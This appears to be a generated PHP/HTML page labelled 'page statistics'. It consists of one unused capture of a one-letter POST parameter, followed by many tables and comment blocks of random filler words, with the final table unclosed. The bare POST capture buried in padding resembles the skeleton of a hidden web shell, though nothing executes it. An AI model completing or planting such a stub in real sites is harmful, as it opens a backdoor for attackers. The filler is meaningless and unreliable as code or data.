<?php
// page statistics
$f = $_POST['x'];
?>
<table>
<tr class="view"><td>theme 0</td><td>value total</td></tr>
<tr class="page"><td>widget 1</td><td>format field</td></tr>
<tr class="import"><td>client 2</td><td>entry widget</td></tr>
<tr class="table"><td>import 3</td><td>offset setting</td></tr>
<tr class="record"><td>format 4</td><td>amount status</td></tr>
<tr class="option"><td>entry 5</td><td>month table</td></tr>
<tr class="table"><td>table 6</td><td>footer record</td></tr>
<tr class="import"><td>client 7</td><td>offset table</td></tr>
<tr class="header"><td>status 8</td><td>format widget</td></tr>
<tr class="style"><td>status 9</td><td>filter status</td></tr>
<tr class="status"><td>locale 10</td><td>label table</td></tr>
<tr class="limit"><td>style 11</td><td>entry list</td></tr>
<tr class="label"><td>page 12</td><td>year panel</td></tr>
<tr class="offset"><td>panel 13</td><td>order title</td></tr>
<tr class="label"><td>option 14</td><td>widget panel</td></tr>
<tr class="sort"><td>option 15</td><td>column field</td></tr>
<tr class="report"><td>sort 16</td><td>limit list</td></tr>
<tr class="export"><td>style 17</td><td>export cache</td></tr>
<tr class="format"><td>panel 18</td><td>entry item</td></tr>
<tr class="header"><td>sort 19</td><td>export widget</td></tr>
<tr class="table"><td>field 20</td><td>column title</td></tr>
<tr class="option"><td>option 21</td><td>sort item</td></tr>
<tr class="item"><td>panel 22</td><td>status record</td></tr>
<tr class="order"><td>footer 23</td><td>style status</td></tr>
<tr class="sort"><td>panel 24</td><td>filter theme</td></tr>
<tr class="filter"><td>locale 25</td><td>amount style</td></tr>
<tr class="setting"><td>record 26</td><td>import panel</td></tr>
<tr class="view"><td>header 27</td><td>style client</td></tr>
<tr class="offset"><td>index 28</td><td>field export</td></tr>
<tr class="theme"><td>style 29</td><td>order panel</td></tr>
<tr class="limit"><td>widget 30</td><td>filter limit</td></tr>
<tr class="filter"><td>record 31</td><td>footer footer</td></tr>
<tr class="year"><td>locale 32</td><td>setting table</td></tr>
<tr class="status"><td>list 33</td><td>style option</td></tr>
<tr class="list"><td>cache 34</td><td>style total</td></tr>
<tr class="column"><td>value 35</td><td>cache table</td></tr>
<tr class="format"><td>record 36</td><td>amount report</td></tr>
<tr class="amount"><td>page 37</td><td>list filter</td></tr>
<tr class="label"><td>value 38</td><td>item item</td></tr>
<tr class="total"><td>header 39</td><td>item amount</td></tr>
</table>
<?php
/*
 * label locale month widget field page table title import year limit order
 * total entry total panel client setting offset table status table sort render
 * column item format panel offset footer status header format status header table
 * sort theme month offset index title view client index title value value
 * title title item limit theme total view record style column option client
 * theme locale item panel column import order filter entry client theme offset
 * option order widget entry import label panel widget table month sort label
 * table item order month theme view year offset client amount entry import
 * style filter footer widget footer report value column cache view item item
 * footer client amount year setting panel total export year year page label
 * report setting widget view option style entry month column limit value import
 * render view year page option import value theme style status theme cache
 * amount export label theme footer page locale amount entry column label record
 * record cache limit page column order report option limit item page format
 * item report item entry offset import footer label style total field month
 * entry client month column table record label setting month format sort month
 * sort value value month setting locale page total client footer field filter
 * total list footer client title order report export cache amount cache format
 * cache theme year status import title column month list month option title
 * report year entry footer option setting cache report status table report sort
 */
?>
<table>
<tr class="value"><td>amount 0</td><td>style value</td></tr>
<tr class="value"><td>table 1</td><td>record label</td></tr>
<tr class="filter"><td>widget 2</td><td>field render</td></tr>
<tr class="entry"><td>panel 3</td><td>month value</td></tr>
<tr class="panel"><td>list 4</td><td>list render</td></tr>
<tr class="render"><td>month 5</td><td>title entry</td></tr>
<tr class="panel"><td>setting 6</td><td>label view</td></tr>
<tr class="client"><td>render 7</td><td>footer column</td></tr>
<tr class="month"><td>style 8</td><td>client list</td></tr>
<tr class="title"><td>offset 9</td><td>footer item</td></tr>
<tr class="index"><td>report 10</td><td>total value</td></tr>
<tr class="format"><td>offset 11</td><td>style total</td></tr>
<tr class="footer"><td>format 12</td><td>footer locale</td></tr>
<tr class="record"><td>sort 13</td><td>year item</td></tr>
<tr class="total"><td>widget 14</td><td>table limit</td></tr>
<tr class="theme"><td>table 15</td><td>index filter</td></tr>
<tr class="option"><td>view 16</td><td>option view</td></tr>
<tr class="view"><td>total 17</td><td>amount sort</td></tr>
<tr class="theme"><td>sort 18</td><td>list cache</td></tr>
<tr class="status"><td>widget 19</td><td>record list</td></tr>
<tr class="header"><td>month 20</td><td>panel format</td></tr>
<tr class="status"><td>report 21</td><td>month widget</td></tr>
<tr class="field"><td>status 22</td><td>limit year</td></tr>
<tr class="style"><td>amount 23</td><td>status index</td></tr>
<tr class="value"><td>panel 24</td><td>export item</td></tr>
<tr class="panel"><td>client 25</td><td>title title</td></tr>
<tr class="title"><td>style 26</td><td>export item</td></tr>
<tr class="locale"><td>setting 27</td><td>cache page</td></tr>
<tr class="setting"><td>panel 28</td><td>theme import</td></tr>
<tr class="list"><td>render 29</td><td>total offset</td></tr>
<tr class="client"><td>theme 30</td><td>index widget</td></tr>
<tr class="sort"><td>filter 31</td><td>import panel</td></tr>
<tr class="item"><td>footer 32</td><td>column header</td></tr>
<tr class="cache"><td>total 33</td><td>entry amount</td></tr>
<tr class="cache"><td>view 34</td><td>cache format</td></tr>
<tr class="report"><td>import 35</td><td>offset sort</td></tr>
<tr class="item"><td>month 36</td><td>format view</td></tr>
<tr class="widget"><td>client 37</td><td>page offset</td></tr>
<tr class="setting"><td>footer 38</td><td>limit page</td></tr>
<tr class="label"><td>amount 39</td><td>report import</td></tr>
</table>
<?php
/*
 * style record order header format option table table setting report total client
 * list label render footer order amount title option total format item footer
 * filter widget limit page client theme import client label entry table page
 * theme record footer label view value panel export theme title offset panel
 * filter header month record page format format filter title footer sort year
 * theme widget page import import client style record amount setting panel order
 * locale setting header limit title item format header order export header record
 * import option offset sort year option value widget report label table limit
 * render sort amount list value setting record filter total limit footer title
 * render locale total widget item locale panel column amount panel entry option
 * offset value filter value format table item panel item cache sort amount
 * setting title client header client report year amount value value header export
 * locale panel style index item title style amount filter status sort style
 * sort list field total year status total report table sort month offset
 * report amount order value item option format option render setting total locale
 * header item view view format export title sort report page client title
 * value entry status sort month widget entry list column index setting table
 * client column widget header format year amount page list entry status sort
 * status widget format import item status report label locale style option import
 * client format total year widget option page client cache column record record
 */
?>
<table>
<tr class="field"><td>month 0</td><td>import option</td></tr>
<tr class="label"><td>order 1</td><td>sort item</td></tr>
<tr class="render"><td>table 2</td><td>record import</td></tr>
<tr class="render"><td>footer 3</td><td>index theme</td></tr>
<tr class="import"><td>total 4</td><td>view cache</td></tr>
<tr class="locale"><td>title 5</td><td>record column</td></tr>
<tr class="footer"><td>index 6</td><td>header view</td></tr>
<tr class="column"><td>amount 7</td><td>page offset</td></tr>
<tr class="cache"><td>order 8</td><td>table widget</td></tr>
<tr class="view"><td>amount 9</td><td>order format</td></tr>
<tr class="import"><td>year 10</td><td>amount total</td></tr>
<tr class="report"><td>report 11</td><td>index option</td></tr>
<tr class="option"><td>list 12</td><td>filter offset</td></tr>
<tr class="setting"><td>style 13</td><td>header index</td></tr>
<tr class="filter"><td>style 14</td><td>limit footer</td></tr>
<tr class="order"><td>footer 15</td><td>offset value</td></tr>
<tr class="amount"><td>value 16</td><td>total list</td></tr>
<tr class="entry"><td>render 17</td><td>index client</td></tr>
<tr class="offset"><td>column 18</td><td>index cache</td></tr>
<tr class="panel"><td>field 19</td><td>panel export</td></tr>
<tr class="entry"><td>month 20</td><td>column view</td></tr>
<tr class="footer"><td>column 21</td><td>format view</td></tr>
<tr class="sort"><td>format 22</td><td>table header</td></tr>
<tr class="amount"><td>cache 23</td><td>total month</td></tr>
<tr class="cache"><td>title 24</td><td>column import</td></tr>
<tr class="index"><td>total 25</td><td>month view</td></tr>
<tr class="total"><td>import 26</td><td>page title</td></tr>
<tr class="entry"><td>offset 27</td><td>report panel</td></tr>
<tr class="style"><td>client 28</td><td>year year</td></tr>
<tr class="panel"><td>sort 29</td><td>option field</td></tr>
<tr class="entry"><td>view 30</td><td>format header</td></tr>
<tr class="style"><td>option 31</td><td>header footer</td></tr>
<tr class="table"><td>label 32</td><td>item order</td></tr>
<tr class="export"><td>import 33</td><td>header month</td></tr>
<tr class="entry"><td>limit 34</td><td>filter view</td></tr>
<tr class="theme"><td>value 35</td><td>column title</td></tr>
<tr class="footer"><td>month 36</td><td>limit title</td></tr>
<tr class="month"><td>filter 37</td><td>amount month</td></tr>
<tr class="header"><td>panel 38</td><td>record header</td></tr>
<tr class="page"><td>render 39</td><td>month month</td></tr>
</table>
<?php
/*
 * month theme value format amount field locale export import cache option index
 * view index header widget theme total report theme year export export sort
 * title locale setting year footer panel item table render total status theme
 * view page list limit index entry footer amount entry client total value
 * theme header cache value client list panel offset table option export widget
 * label status order setting widget report offset format export footer order field
 * value total limit order record footer import panel widget value sort panel
 * option option offset column filter locale record order title record footer page
 * title panel month footer theme style label header limit footer header limit
 * setting option title format title view panel format option view style item
 * total record offset theme column export limit sort label table cache cache
 * record import amount locale amount export field year import locale page field
 * filter render limit render table list total export view option label limit
 * total panel label limit amount offset year widget client widget sort offset
 * cache value view client render status table entry total render field entry
 * sort list record cache offset index style client footer offset filter index
 * entry style limit page total amount list field index client cache import
 * page format label panel widget sort page setting field entry render import
 * order item header total limit footer label widget footer client year widget
 * entry record filter amount index footer format title entry status panel amount
 */
?>
<table>
<tr class="amount"><td>report 0</td><td>limit render</td></tr>
<tr class="view"><td>total 1</td><td>order limit</td></tr>
<tr class="style"><td>setting 2</td><td>index footer</td></tr>
<tr class="setting"><td>panel 3</td><td>render limit</td></tr>
<tr class="amount"><td>amount 4</td><td>field title</td></tr>
<tr class="amount"><td>widget 5</td><td>client widget</td></tr>
<tr class="export"><td>setting 6</td><td>field report</td></tr>
<tr class="year"><td>list 7</td><td>setting list</td></tr>
<tr class="option"><td>format 8</td><td>footer render</td></tr>
<tr class="index"><td>panel 9</td><td>month header</td></tr>
<tr class="view"><td>client 10</td><td>month widget</td></tr>
<tr class="field"><td>year 11</td><td>page view</td></tr>
<tr class="view"><td>total 12</td><td>status cache</td></tr>
<tr class="footer"><td>index 13</td><td>theme list</td></tr>
<tr class="page"><td>status 14</td><td>theme order</td></tr>
<tr class="panel"><td>theme 15</td><td>title offset</td></tr>
<tr class="month"><td>record 16</td><td>table title</td></tr>
<tr class="status"><td>cache 17</td><td>status amount</td></tr>
<tr class="year"><td>amount 18</td><td>setting header</td></tr>
<tr class="import"><td>table 19</td><td>page year</td></tr>
<tr class="filter"><td>view 20</td><td>page total</td></tr>
<tr class="render"><td>theme 21</td><td>column filter</td></tr>
<tr class="value"><td>cache 22</td><td>entry title</td></tr>
<tr class="month"><td>report 23</td><td>amount header</td></tr>
<tr class="index"><td>export 24</td><td>table cache</td></tr>
<tr class="view"><td>sort 25</td><td>export report</td></tr>
<tr class="entry"><td>year 26</td><td>amount record</td></tr>
<tr class="panel"><td>month 27</td><td>page filter</td></tr>
<tr class="view"><td>setting 28</td><td>amount sort</td></tr>
<tr class="cache"><td>theme 29</td><td>header field</td></tr>
<tr class="theme"><td>limit 30</td><td>footer sort</td></tr>
<tr class="title"><td>status 31</td><td>title style</td></tr>
<tr class="view"><td>index 32</td><td>setting panel</td></tr>
<tr class="page"><td>list 33</td><td>report client</td></tr>
<tr class="offset"><td>amount 34</td><td>footer table</td></tr>
<tr class="total"><td>footer 35</td><td>amount header</td></tr>
<tr class="total"><td>field 36</td><td>view sort</td></tr>
<tr class="entry"><td>export 37</td><td>value footer</td></tr>
<tr class="export"><td>footer 38</td><td>style panel</td></tr>
<tr class="option"><td>table 39</td><td>title format</td></tr>
</table>
<?php
/*
 * view render value option render client field year export label item render
 * import format sort page setting render amount label setting record footer record
 * view import style entry locale table offset setting offset amount export limit
 * sort setting locale index entry field column record column page option view
 * header panel filter style amount theme filter field report report entry style
 * filter item page column month offset filter total index offset limit import
 * filter label year format report header render index year page panel list
 * footer widget year page option table field client import list sort status
 * entry report year year report locale field export widget order offset format
 * sort footer page theme widget amount view render record import limit entry
 * table value list locale import panel label render render header entry total
 * table locale sort status footer sort record footer report offset item list
 * year report value footer style item list import option table panel client
 * offset report column header order panel footer value report sort locale page
 * theme index import cache style entry field column header report record table
 * title locale amount limit item setting view style month footer format panel
 * limit style item sort import order widget amount export render total theme
 * amount list cache export year render total total total filter import amount
 * theme locale record render view total status order value option footer order
 * footer offset report theme view style locale sort order cache value render
 */
?>
<table>
<tr class="index"><td>table 0</td><td>sort import</td></tr>
<tr class="limit"><td>view 1</td><td>option setting</td></tr>
<tr class="view"><td>footer 2</td><td>footer value</td></tr>
<tr class="report"><td>import 3</td><td>view label</td></tr>
<tr class="order"><td>sort 4</td><td>filter list</td></tr>
<tr class="status"><td>title 5</td><td>render filter</td></tr>
<tr class="widget"><td>footer 6</td><td>label cache</td></tr>
<tr class="panel"><td>title 7</td><td>client locale</td></tr>
<tr class="table"><td>label 8</td><td>option entry</td></tr>
<tr class="export"><td>format 9</td><td>total index</td></tr>
<tr class="index"><td>month 10</td><td>item view</td></tr>
<tr class="entry"><td>page 11</td><td>offset option</td></tr>
<tr class="report"><td>client 12</td><td>panel panel</td></tr>
<tr class="sort"><td>page 13</td><td>client import</td></tr>
<tr class="header"><td>view 14</td><td>option total</td></tr>
<tr class="record"><td>page 15</td><td>order theme</td></tr>
<tr class="import"><td>field 16</td><td>footer status</td></tr>
<tr class="amount"><td>column 17</td><td>item style</td></tr>
<tr class="panel"><td>status 18</td><td>limit amount</td></tr>
<tr class="limit"><td>sort 19</td><td>amount widget</td></tr>
<tr class="entry"><td>view 20</td><td>list style</td></tr>
<tr class="table"><td>locale 21</td><td>column widget</td></tr>
<tr class="client"><td>sort 22</td><td>footer year</td></tr>
<tr class="report"><td>entry 23</td><td>value column</td></tr>
<tr class="offset"><td>format 24</td><td>order list</td></tr>
<tr class="setting"><td>panel 25</td><td>order panel</td></tr>
<tr class="import"><td>header 26</td><td>export order</td></tr>
<tr class="status"><td>export 27</td><td>option value</td></tr>
<tr class="year"><td>index 28</td><td>locale column</td></tr>
<tr class="list"><td>render 29</td><td>label field</td></tr>
<tr class="column"><td>option 30</td><td>panel value</td></tr>
<tr class="theme"><td>sort 31</td><td>cache sort</td></tr>
<tr class="panel"><td>theme 32</td><td>title sort</td></tr>
<tr class="amount"><td>filter 33</td><td>field index</td></tr>
<tr class="style"><td>field 34</td><td>table offset</td></tr>
<tr class="title"><td>option 35</td><td>month render</td></tr>
<tr class="setting"><td>option 36</td><td>style amount</td></tr>
<tr class="value"><td>setting 37</td><td>export limit</td></tr>
<tr class="sort"><td>header 38</td><td>table theme</td></tr>
<tr class="option"><td>page 39</td><td>column theme</td></tr>
</table>
<?php
/*
 * header record entry year year export style column export option value widget
 * cache footer format year panel footer record item month export client render
 * option render option entry sort month panel limit export year total setting
 * export column value report total sort style label theme cache value item
 * amount limit cache view label style total report client entry amount field
 * index panel title client footer value style month year label header view
 * column format export column table month limit item style column option header
 * offset list order status page option view option panel page amount locale
 * order index export locale year filter status record record widget column item
 * total style column record status cache header list column header order client
 * format label report widget panel export month sort value order setting list
 * order title option offset field export table widget table entry theme offset
 * option year year value limit order panel widget setting theme style panel
 * field setting theme format setting field item amount header title theme sort
 * setting footer total total title record setting column locale locale filter status
 * panel format client field year render import offset index page filter record
 * total footer index title import record month year title option index client
 * cache year page value view label limit setting year status table list
 * panel theme export title label import limit header locale value order limit
 * status setting column report status report sort import client render title export
 */
?>
<table>
<tr class="record"><td>title 0</td><td>format widget</td></tr>
<tr class="item"><td>render 1</td><td>table export</td></tr>
<tr class="offset"><td>style 2</td><td>year panel</td></tr>
<tr class="widget"><td>month 3</td><td>setting page</td></tr>
<tr class="option"><td>label 4</td><td>style amount</td></tr>
<tr class="offset"><td>record 5</td><td>title cache</td></tr>
<tr class="widget"><td>page 6</td><td>panel status</td></tr>
<tr class="setting"><td>total 7</td><td>offset export</td></tr>
<tr class="status"><td>index 8</td><td>entry setting</td></tr>
<tr class="panel"><td>panel 9</td><td>panel item</td></tr>
<tr class="view"><td>label 10</td><td>index value</td></tr>
<tr class="client"><td>record 11</td><td>index offset</td></tr>
<tr class="table"><td>value 12</td><td>index record</td></tr>
<tr class="column"><td>footer 13</td><td>year year</td></tr>
<tr class="table"><td>record 14</td><td>style client</td></tr>
<tr class="field"><td>order 15</td><td>amount label</td></tr>
<tr class="option"><td>style 16</td><td>header total</td></tr>
<tr class="status"><td>list 17</td><td>client sort</td></tr>
<tr class="index"><td>report 18</td><td>style format</td></tr>
<tr class="column"><td>year 19</td><td>month limit</td></tr>
<tr class="page"><td>table 20</td><td>theme list</td></tr>
<tr class="panel"><td>cache 21</td><td>list client</td></tr>
<tr class="status"><td>list 22</td><td>title entry</td></tr>
<tr class="index"><td>month 23</td><td>render value</td></tr>
<tr class="format"><td>render 24</td><td>status column</td></tr>
<tr class="label"><td>filter 25</td><td>index option</td></tr>
<tr class="cache"><td>format 26</td><td>order status</td></tr>
<tr class="list"><td>page 27</td><td>index order</td></tr>
<tr class="index"><td>page 28</td><td>cache status</td></tr>
<tr class="label"><td>total 29</td><td>header offset</td></tr>
<tr class="report"><td>column 30</td><td>total order</td></tr>
<tr class="month"><td>filter 31</td><td>filter locale</td></tr>
<tr class="import"><td>import 32</td><td>cache offset</td></tr>
<tr class="report"><td>widget 33</td><td>year list</td></tr>
<tr class="setting"><td>page 34</td><td>report value</td></tr>
<tr class="offset"><td>amount 35</td><td>footer title</td></tr>
<tr class="year"><td>export 36</td><td>limit locale</td></tr>
<tr class="export"><td>filter 37</td><td>month sort</td></tr>
<tr class="field"><td>panel 38</td><td>table export</td></tr>
<tr class="view"><td>title 39</td><td>item title</td></tr>
</table>
<?php
/*
 * theme view style render item locale render view item cache total report
 * filter month item amount field title value offset render style filter format
 * entry render month value list field footer column column order filter export
 * panel filter panel export year page list import column amount client index
 * report title month theme sort report export index status label theme record
 * order entry view status export panel amount render item status value title
 * theme panel panel footer setting footer offset format option panel field list
 * panel filter order offset value amount client status render view client table
 * item widget export list index export cache report client cache format order
 * setting year item theme table client month field style column index export
 * widget style filter view widget value panel month theme title setting month
 * theme cache field year limit value total value month table list month
 * status month total total title widget limit record label item label index
 * page offset offset client amount filter theme widget theme label setting total
 * list month render filter entry sort filter header theme order sort format
 * render field report column report cache value column header panel field theme
 * field month header item theme widget sort record import style style format
 * item option option export index export filter format report footer title cache
 * format filter order item view format column export theme year list theme
 * widget field record theme status index format item panel client sort locale
 */
?>
<table>
<tr class="page"><td>month 0</td><td>total view</td></tr>
<tr class="item"><td>year 1</td><td>view list</td></tr>
<tr class="header"><td>title 2</td><td>status style</td></tr>
<tr class="offset"><td>locale 3</td><td>locale panel</td></tr>
<tr class="style"><td>title 4</td><td>item header</td></tr>
<tr class="panel"><td>title 5</td><td>option client</td></tr>
<tr class="label"><td>render 6</td><td>record year</td></tr>
<tr class="page"><td>offset 7</td><td>import panel</td></tr>
<tr class="list"><td>format 8</td><td>format footer</td></tr>
<tr class="format"><td>export 9</td><td>client index</td></tr>
<tr class="cache"><td>entry 10</td><td>entry footer</td></tr>
<tr class="import"><td>view 11</td><td>format sort</td></tr>
<tr class="list"><td>field 12</td><td>format header</td></tr>
<tr class="option"><td>column 13</td><td>option order</td></tr>
<tr class="option"><td>format 14</td><td>widget import</td></tr>
<tr class="label"><td>filter 15</td><td>list setting</td></tr>
<tr class="amount"><td>list 16</td><td>table style</td></tr>
<tr class="index"><td>value 17</td><td>style status</td></tr>
<tr class="format"><td>month 18</td><td>format year</td></tr>
<tr class="entry"><td>import 19</td><td>index locale</td></tr>
<tr class="amount"><td>limit 20</td><td>locale year</td></tr>
<tr class="panel"><td>entry 21</td><td>item sort</td></tr>
<tr class="footer"><td>offset 22</td><td>field panel</td></tr>
<tr class="render"><td>month 23</td><td>render filter</td></tr>
<tr class="view"><td>order 24</td><td>status client</td></tr>
<tr class="locale"><td>render 25</td><td>entry entry</td></tr>
<tr class="offset"><td>index 26</td><td>locale render</td></tr>
<tr class="export"><td>style 27</td><td>month amount</td></tr>
<tr class="sort"><td>record 28</td><td>import widget</td></tr>
<tr class="format"><td>title 29</td><td>title option</td></tr>
<tr class="import"><td>month 30</td><td>label list</td></tr>
<tr class="entry"><td>widget 31</td><td>list format</td></tr>
<tr class="render"><td>locale 32</td><td>entry footer</td></tr>
<tr class="page"><td>footer 33</td><td>month month</td></tr>
<tr class="widget"><td>style 34</td><td>year option</td></tr>
<tr class="month"><td>style 35</td><td>option locale</td></tr>
<tr class="month"><td>widget 36</td><td>sort footer</td></tr>
<tr class="client"><td>item 37</td><td>report footer</td></tr>
<tr class="order"><td>setting 38</td><td>report index</td></tr>
<tr class="month"><td>index 39</td><td>year limit</td></tr>
</table>
<?php
/*
 * table filter export export setting setting limit client label status month sort
 * import list record import filter setting status status value month import client
 * label entry offset record filter cache limit render page footer list year
 * render import offset month footer header amount client order item item footer
 * item render page format option header view offset view year setting month
 * setting view table filter list status report widget option widget column cache
 * view footer field theme render client export view amount filter value import
 * field table header locale order report client record title column amount header
 * order value entry page sort year entry format theme header field amount
 * render offset export filter import limit offset export style client order value
 * render report report table report sort locale format theme entry index list
 * header record column offset amount limit view report export limit year option
 * index panel locale view header export option index filter page report page
 * offset render table export view render label table field table field value
 * option offset cache field footer setting panel entry view footer sort setting
 * footer limit report header import field month format page value client option
 * export entry entry filter entry order page option cache record panel offset
 * report cache title widget index theme offset style title sort column setting
 * table amount field format status amount month field format footer index amount
 * panel list format locale label option option list month panel sort limit
 */
?>
<table>
<tr class="style"><td>setting 0</td><td>sort field</td></tr>
<tr class="status"><td>title 1</td><td>table value</td></tr>
<tr class="render"><td>widget 2</td><td>page export</td></tr>
<tr class="total"><td>title 3</td><td>footer title</td></tr>
<tr class="view"><td>entry 4</td><td>panel view</td></tr>
<tr class="locale"><td>column 5</td><td>format field</td></tr>
<tr class="theme"><td>month 6</td><td>footer export</td></tr>
<tr class="view"><td>record 7</td><td>footer order</td></tr>
<tr class="amount"><td>value 8</td><td>locale label</td></tr>
<tr class="record"><td>amount 9</td><td>panel table</td></tr>
<tr class="theme"><td>sort 10</td><td>page entry</td></tr>
<tr class="month"><td>setting 11</td><td>theme format</td></tr>
<tr class="cache"><td>widget 12</td><td>header year</td></tr>
<tr class="option"><td>column 13</td><td>order item</td></tr>
<tr class="index"><td>page 14</td><td>column page</td></tr>
<tr class="style"><td>header 15</td><td>title order</td></tr>
<tr class="item"><td>footer 16</td><td>render status</td></tr>
<tr class="client"><td>cache 17</td><td>panel filter</td></tr>
<tr class="theme"><td>offset 18</td><td>amount view</td></tr>
<tr class="label"><td>theme 19</td><td>report value</td></tr>
<tr class="setting"><td>total 20</td><td>index table</td></tr>
<tr class="offset"><td>label 21</td><td>field offset</td></tr>
<tr class="offset"><td>value 22</td><td>list client</td></tr>
<tr class="column"><td>offset 23</td><td>limit filter</td></tr>
<tr class="filter"><td>panel 24</td><td>render list</td></tr>
<tr class="status"><td>status 25</td><td>index export</td></tr>
<tr class="value"><td>format 26</td><td>month client</td></tr>
<tr class="status"><td>total 27</td><td>render header</td></tr>
<tr class="import"><td>entry 28</td><td>field record</td></tr>
<tr class="field"><td>title 29</td><td>total label</td></tr>
<tr class="client"><td>view 30</td><td>import column</td></tr>
<tr class="import"><td>locale 31</td><td>footer table</td></tr>
<tr class="view"><td>status 32</td><td>widget entry</td></tr>
<tr class="label"><td>offset 33</td><td>order header</td></tr>
<tr class="year"><td>entry 34</td><td>report report</td></tr>
<tr class="widget"><td>theme 35</td><td>page list</td></tr>
<tr class="widget"><td>filter 36</td><td>setting offset</td></tr>
<tr class="sort"><td>style 37</td><td>limit table</td></tr>
<tr class="sort"><td>render 38</td><td>offset view</td></tr>
<tr class="index"><td>label 39</td><td>import offset</td></tr>
</table>
<?php
/*
 * entry order setting amount field setting offset total panel entry month render
 * style footer total table style entry export locale total entry label view
 * cache limit import table field option view style sort widget status panel
 * table import index limit setting cache report column locale cache label column
 * filter column value value column option title filter title cache footer field
 * filter month item filter header report month setting status report client title
 * title footer month title option record field total status render report item
 * cache total sort order view item style value month import client item
 * column format client sort page title status label panel format year cache
 * value value status page header locale style locale record setting item locale
 * offset footer page order record report title client header setting label title
 * total filter amount label index table record format column client value month
 * format title page report page order table order view setting table format
 * table style status field list footer record status view value table view
 * month theme cache header footer total order sort record footer amount filter
 * total footer import sort header header footer locale amount cache list field
 * theme sort view client header table header index month render status month
 * sort column limit option field panel value column view style limit footer
 * import footer amount option column client order title import title header table
 * theme amount order footer header footer item status cache client field item
 */
?>
<table>
<tr class="index"><td>sort 0</td><td>label record</td></tr>
<tr class="render"><td>entry 1</td><td>column option</td></tr>
<tr class="offset"><td>field 2</td><td>list client</td></tr>
<tr class="theme"><td>locale 3</td><td>entry sort</td></tr>
<tr class="status"><td>value 4</td><td>view year</td></tr>
<tr class="panel"><td>field 5</td><td>widget panel</td></tr>
<tr class="export"><td>offset 6</td><td>option report</td></tr>
<tr class="format"><td>total 7</td><td>sort filter</td></tr>
<tr class="import"><td>theme 8</td><td>status import</td></tr>
<tr class="entry"><td>list 9</td><td>setting filter</td></tr>
<tr class="value"><td>table 10</td><td>limit option</td></tr>
<tr class="widget"><td>index 11</td><td>locale page</td></tr>
<tr class="status"><td>locale 12</td><td>filter panel</td></tr>
<tr class="cache"><td>year 13</td><td>column amount</td></tr>
<tr class="option"><td>header 14</td><td>year view</td></tr>
<tr class="theme"><td>item 15</td><td>offset title</td></tr>
<tr class="format"><td>report 16</td><td>widget import</td></tr>
<tr class="table"><td>panel 17</td><td>total page</td></tr>
<tr class="label"><td>total 18</td><td>table theme</td></tr>
<tr class="cache"><td>month 19</td><td>panel list</td></tr>
<tr class="status"><td>label 20</td><td>cache item</td></tr>
<tr class="locale"><td>export 21</td><td>sort format</td></tr>
<tr class="field"><td>entry 22</td><td>theme widget</td></tr>
<tr class="theme"><td>cache 23</td><td>column index</td></tr>
<tr class="table"><td>amount 24</td><td>column amount</td></tr>
<tr class="title"><td>list 25</td><td>footer field</td></tr>
<tr class="year"><td>table 26</td><td>locale year</td></tr>
<tr class="report"><td>status 27</td><td>filter index</td></tr>
<tr class="table"><td>format 28</td><td>panel order</td></tr>
<tr class="sort"><td>render 29</td><td>list status</td></tr>
<tr class="cache"><td>sort 30</td><td>column list</td></tr>
<tr class="month"><td>record 31</td><td>locale footer</td></tr>
<tr class="header"><td>item 32</td><td>column offset</td></tr>
<tr class="status"><td>total 33</td><td>header format</td></tr>
<tr class="order"><td>column 34</td><td>setting import</td></tr>
<tr class="limit"><td>sort 35</td><td>panel offset</td></tr>
<tr class="amount"><td>format 36</td><td>year theme</td></tr>
<tr class="table"><td>cache 37</td><td>field limit</td></tr>
<tr class="item"><td>offset 38</td><td>item footer</td></tr>
<tr class="panel"><td>panel 39</td><td>panel list</td></tr>
</table>
<?php
/*
 * amount limit field label filter locale sort style import label report filter
 * footer footer header status total table value total import item total option
 * total widget table item field page status render page import index list
 * value entry locale style locale table index amount index header field client
 * filter setting format page year month import import label cache status format
 * style filter offset offset offset option amount list render index year filter
 * import value option month theme list render page footer client field status
 * filter header item client title item view sort offset widget filter column
 * footer value table export report render client sort format panel option amount
 * offset setting year field year cache option index view style field list
 * cache record value table list amount order locale sort footer panel amount
 * total style import entry sort locale report value month view setting table
 * import index label filter table format month option record footer month sort
 * index option format entry offset sort page theme table record style setting
 * limit filter list sort column render label header limit item theme field
 * label option setting total column sort footer option limit render month item
 * locale sort theme style view panel cache setting option sort total sort
 * widget column label item amount import amount page total record page entry
 * locale render locale report report column status cache entry entry column option
 * page column total limit render filter page index import status item footer
 */
?>
<table>
<tr class="theme"><td>widget 0</td><td>item filter</td></tr>
<tr class="setting"><td>sort 1</td><td>panel theme</td></tr>
<tr class="item"><td>month 2</td><td>header value</td></tr>
<tr class="index"><td>record 3</td><td>theme title</td></tr>
<tr class="entry"><td>format 4</td><td>cache record</td></tr>
<tr class="index"><td>amount 5</td><td>style title</td></tr>
<tr class="option"><td>total 6</td><td>locale import</td></tr>
<tr class="page"><td>status 7</td><td>title view</td></tr>
<tr class="panel"><td>panel 8</td><td>table export</td></tr>
<tr class="format"><td>entry 9</td><td>offset render</td></tr>
<tr class="amount"><td>page 10</td><td>export total</td></tr>
<tr class="client"><td>year 11</td><td>render style</td></tr>
<tr class="status"><td>record 12</td><td>status field</td></tr>
<tr class="filter"><td>view 13</td><td>limit year</td></tr>
<tr class="offset"><td>format 14</td><td>page total</td></tr>
<tr class="index"><td>header 15</td><td>label panel</td></tr>
<tr class="month"><td>order 16</td><td>client status</td></tr>
<tr class="report"><td>import 17</td><td>filter total</td></tr>
<tr class="record"><td>widget 18</td><td>panel view</td></tr>
<tr class="offset"><td>field 19</td><td>cache header</td></tr>
<tr class="amount"><td>entry 20</td><td>status entry</td></tr>
<tr class="offset"><td>sort 21</td><td>render page</td></tr>
<tr class="format"><td>header 22</td><td>client item</td></tr>
<tr class="client"><td>amount 23</td><td>export month</td></tr>
<tr class="filter"><td>total 24</td><td>theme render</td></tr>
<tr class="table"><td>status 25</td><td>total field</td></tr>
<tr class="setting"><td>footer 26</td><td>table year</td></tr>
<tr class="table"><td>list 27</td><td>order total</td></tr>
<tr class="status"><td>value 28</td><td>offset export</td></tr>
<tr class="export"><td>order 29</td><td>entry record</td></tr>
<tr class="sort"><td>year 30</td><td>theme year</td></tr>
<tr class="limit"><td>year 31</td><td>option total</td></tr>
<tr class="sort"><td>amount 32</td><td>filter value</td></tr>
<tr class="offset"><td>status 33</td><td>field filter</td></tr>
<tr class="label"><td>table 34</td><td>entry setting</td></tr>
<tr class="header"><td>index 35</td><td>item status</td></tr>
<tr class="footer"><td>format 36</td><td>label offset</td></tr>
<tr class="sort"><td>record 37</td><td>value sort</td></tr>
<tr class="render"><td>option 38</td><td>client field</td></tr>
